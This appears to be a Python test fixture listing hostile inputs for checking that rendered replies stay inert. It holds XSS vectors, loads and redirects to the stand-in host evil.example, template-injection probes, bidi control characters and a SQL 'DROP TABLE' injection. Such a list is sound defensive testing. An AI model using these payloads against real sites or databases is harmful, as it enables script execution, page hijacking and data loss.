"""What a reply may hold that a page must not do: each tries to run, to load or to mislead."""

from __future__ import annotations

ATTACKS = (
    "<script>window.taken = 1</script>",
    "</pre></main></body></html><script src=//evil.example/x.js></script>",
    '<img src=x onerror="window.taken = 1"><body onload="window.taken = 1">',
    "<svg/onload=window.taken=1><svg><script>window.taken = 1</script></svg>",
    '<svg><a xlink:href="javascript:window.taken = 1"><text>x</text></a></svg>',
    '<a href="javascript:window.taken = 1">go on</a> javascript:window.taken=1',
    '<a href="data:text/html,<script>window.taken = 1</script>">open</a>',
    '<iframe srcdoc="<script>window.taken = 1</script>"></iframe><object data="data:,x"></object>',
    "<style>body { display: none } @import url(//evil.example/x.css);</style>",
    '<p style="position: fixed; inset: 0; background: url(//evil.example/x)">over it all</p>',
    '<form action="//evil.example"><button formaction="//evil.example">label</button></form>',
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "\"><script>window.taken = 1</script> ' onfocus=window.taken=1 autofocus x='",
    "{{ 7 * 7 }} {% for x in y %} ${7 * 7} <%= 7 * 7 %> #{7 * 7}",
    "\u202eevas si siht\u202c \u2066\u2069 \u200b\u200f\ufeff \x1b[31mred\x1b[0m \x08\x08",
    "<!-- <![CDATA[ ]]> --> &lt;script&gt; &#60;script&#62; %3Cscript%3E",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.taken=1></style></math>",
    "<template><script>window.taken = 1</script></template><noscript><p title='</noscript>'>",
    "’; DROP TABLE labels; -- ' OR 1=1 \" NEAR(x y) * AND NOT",
)
"""Texts for replies, names and addresses; in a browser ``window.taken`` must stay undefined."""
